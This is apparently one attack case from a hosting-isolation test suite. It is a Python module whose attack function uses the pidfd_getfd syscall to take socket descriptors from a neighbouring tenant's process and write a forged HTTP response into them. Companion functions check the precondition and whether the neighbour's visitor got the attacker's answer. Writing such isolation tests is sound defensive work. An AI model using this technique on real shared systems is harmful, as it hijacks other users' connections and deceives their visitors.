"""Write to a socket of the process that runs the neighbour's script."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

ONE_STEP = True
NEIGHBOUR_AT_WORK = True


def attack(given: Given) -> object:
    import ctypes
    import os
    import socket

    # A named socket, as php-fpm has them, could simply be connected to. One without a name has to
    # be taken out of the process that holds it.
    libc = ctypes.CDLL(None, use_errno=True)
    process = os.pidfd_open(given.victim)
    answer = b"HTTP/1.1 200 OK\r\nContent-Length: 16\r\n\r\n" + given.token.encode()
    written = []
    for number in range(3, 16):
        descriptor = libc.syscall(ctypes.c_long(438), process, number, 0)  # pidfd_getfd(2)
        if descriptor < 0:
            if ctypes.get_errno() == 9:  # EBADF: it has none of this number
                continue
            raise OSError(ctypes.get_errno(), f"pidfd_getfd: {os.strerror(ctypes.get_errno())}")
        try:
            with socket.socket(fileno=descriptor) as channel:
                channel.send(answer)
                written.append(number)
        except OSError:
            continue
    return written


def missing(scene: Scene) -> str | None:
    if scene.has_socket("victim"):
        return None
    return "the process that runs the neighbour's script has no socket"


def proof(scene: Scene) -> str | None:
    if scene.token.encode() in scene.released().raw:
        return "the neighbour's visitor got the attacker's answer"
    return None
